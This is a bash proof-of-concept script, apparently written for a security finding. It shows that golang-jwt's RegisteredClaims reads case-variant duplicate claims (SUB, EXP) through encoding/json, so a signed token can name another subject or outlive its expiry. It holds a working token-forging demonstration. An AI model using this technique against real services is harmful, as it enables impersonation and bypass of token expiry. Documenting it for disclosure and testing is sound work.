#!/usr/bin/env bash
# A token's subject is another one for the usual JWT library of Go than for its issuer. Names
# of claims are case-sensitive (RFC 7519, section 4), so {"sub": "eve", "SUB": "ada"} is a
# valid token of eve with a claim SUB beside. github.com/golang-jwt/jwt decodes
# claims into a struct, by encoding/json, which takes a name in any letters for the field's and
# keeps the last one: its RegisteredClaims say ada. So do exp, aud and iss. Where users name
# claims of their own, as attributes that are mapped into tokens let them, they choose who
# they are. The library's MapClaims are exact; so is npm's jose.
#
# Seen with jose@6.2.18 on Node.js 20 and github.com/golang-jwt/jwt/v5@v5.3.1 on Go
# 1.26.8: "jose: eve", "MapClaims: eve", then "RegisteredClaims: ada"; and the same token
# with an exp in the past and an EXP in the future is valid.
#
# What the product does: lift/auth reads each claim by its exact name.
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
echo '{"type":"module","private":true}' >package.json
npm install --silent --no-audit --no-fund jose@6.2.18
cat >sign.mjs <<'JS'
import { SignJWT, exportSPKI, generateKeyPair, jwtVerify } from "jose";
import { writeFileSync } from "node:fs";

const { publicKey, privateKey } = await generateKeyPair("ES256");
writeFileSync("key.pem", await exportSPKI(publicKey));
const now = Math.floor(Date.now() / 1000);
const sign = (claims) => new SignJWT(claims).setProtectedHeader({ alg: "ES256" }).sign(privateKey);
const eve = await sign({ sub: "eve", exp: now + 3600, SUB: "ada" });
const old = await sign({ sub: "eve", exp: now - 3600, EXP: now + 3600 });
writeFileSync("eve.jwt", eve);
writeFileSync("old.jwt", old);
console.log("jose:", (await jwtVerify(eve, publicKey)).payload.sub);
console.log("jose, expired:", await jwtVerify(old, publicKey).then(() => "valid", (err) => err.code));
JS
node sign.mjs
cat >main.go <<'GO'
package main

import (
	"fmt"
	"log"
	"os"

	"github.com/golang-jwt/jwt/v5"
)

func parse(file string, claims jwt.Claims) error {
	pem, err := os.ReadFile("key.pem")
	if err != nil {
		log.Fatal(err)
	}
	key, err := jwt.ParseECPublicKeyFromPEM(pem)
	if err != nil {
		log.Fatal(err)
	}
	token, err := os.ReadFile(file)
	if err != nil {
		log.Fatal(err)
	}
	_, err = jwt.ParseWithClaims(string(token), claims, func(*jwt.Token) (any, error) { return key, nil },
		jwt.WithValidMethods([]string{"ES256"}), jwt.WithExpirationRequired())
	return err
}

func main() {
	exact, loose := jwt.MapClaims{}, new(jwt.RegisteredClaims)
	if err := parse("eve.jwt", exact); err != nil {
		log.Fatal(err)
	}
	if err := parse("eve.jwt", loose); err != nil {
		log.Fatal(err)
	}
	fmt.Println("MapClaims:", exact["sub"])
	fmt.Println("RegisteredClaims:", loose.Subject)
	fmt.Println("MapClaims, expired:", parse("old.jwt", jwt.MapClaims{}))
	old := parse("old.jwt", new(jwt.RegisteredClaims))
	fmt.Println("RegisteredClaims, expired:", old)
	if exact["sub"] != "eve" || loose.Subject != "ada" || old != nil {
		log.Fatal("the library reads names exactly now: this finding is out of date")
	}
}
GO
export GOFLAGS=-mod=mod
go mod init finding >/dev/null 2>&1
go get github.com/golang-jwt/jwt/v5@v5.3.1 >/dev/null 2>&1
go run .
